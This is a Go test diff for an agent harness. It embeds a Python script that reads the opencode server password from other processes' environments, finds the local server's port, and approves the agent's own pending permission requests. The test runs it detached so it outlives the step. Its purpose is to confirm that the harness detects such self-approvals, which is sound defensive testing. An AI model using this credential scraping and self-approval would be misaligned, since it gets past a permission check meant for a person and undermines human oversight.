@@ -122,6 +122,9 @@ func (r *rig) play(profile thole.Profile, prompt string, answer func(event.Ask) 
 			all = append(all, ev.Event)
 			if ev.Event.Kind == event.AskRequested {
 				d := answer(*ev.Event.Ask)
+				if d == "" {
+					continue
+				}
 				_, _ = r.client.Reply(r.Context(), wire.ReplyRequest{Run: req.Turn.ID, Ask: ev.Event.Ask.ID, Answer: event.Answer{Decision: d}})
 			}
 		}
@@ -205,5 +208,67 @@ func TestAnAgentDoesNotAnswerItself(t *testing.T) {
 				t.Errorf("the agent says %q, %v: %+v", got, err, end(all))
 			}
 		})
+	}
+}
+
+// answerOpencode is an agent's program that answers approvals at opencode's own server,
+// whose password a child process can read.
+const answerOpencode = `import base64, glob, json, os, time, urllib.request
+password = ""
+while not password:
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        try:
+            for kv in open(path, "rb").read().split(b"\0"):
+                if kv.startswith(b"OPENCODE_SERVER_PASSWORD="):
+                    password = kv.split(b"=", 1)[1].decode()
+        except OSError:
+            pass
+auth = "Basic " + base64.b64encode(("opencode:" + password).encode()).decode()
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+def call(port, path, body=None):
+    req = urllib.request.Request("http://127.0.0.1:%d%s" % (port, path), data=None if body is None else json.dumps(body).encode(), headers={"Authorization": auth, "Content-Type": "application/json"})
+    return json.load(opener.open(req, timeout=5))
+end = time.time() + 60
+while time.time() < end:
+    for line in open("/proc/net/tcp").read().splitlines()[1:]:
+        f = line.split()
+        if f[3] != "0A":
+            continue
+        try:
+            for ask in call(int(f[1].split(":")[1], 16), "/permission?directory=/workspace"):
+                call(int(f[1].split(":")[1], 16), "/permission/" + ask["id"] + "/reply?directory=/workspace", {"reply": "once"})
+                open("/workspace/answered", "w").write("yes")
+                os._exit(0)
+        except Exception:
+            pass
+    time.sleep(0.05)
+`
+
+// opencode's server can be asked by its own children, who are the same principal. Such
+// an answer is found out: it comes without a receipt of ours, by which the
+// thread knows that the agent gave it (internal/thread).
+func TestAnAnswerOfTheAgentsIsNotOurs(t *testing.T) {
+	r := newRig(t, "opencode")
+	if err := os.WriteFile(filepath.Join(r.workspace, "answer.py"), []byte(answerOpencode), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	asked := 0
+	all := r.play(thole.ProfileAsk, "sim: run (setsid python3 answer.py >/dev/null 2>&1 &) ;; run echo x > made ;; say ok", func(event.Ask) event.Decision {
+		if asked++; asked == 1 {
+			return event.DecisionAllow // a person lets the agent start something
+		}
+		return "" // and answers nothing more
+	})
+	if !r.exists("answered") {
+		t.Fatalf("the attack does not work any more: nothing is proven: %+v", end(all))
+	}
+	var last *event.Event
+	for i, e := range all {
+		if e.Kind == event.AskResolved {
+			last = &all[i]
+		}
+	}
+	if asked != 2 || last == nil || last.Receipt != "" {
+		t.Errorf("%d asks; the last was resolved as %+v", asked, last)
 	}
 }
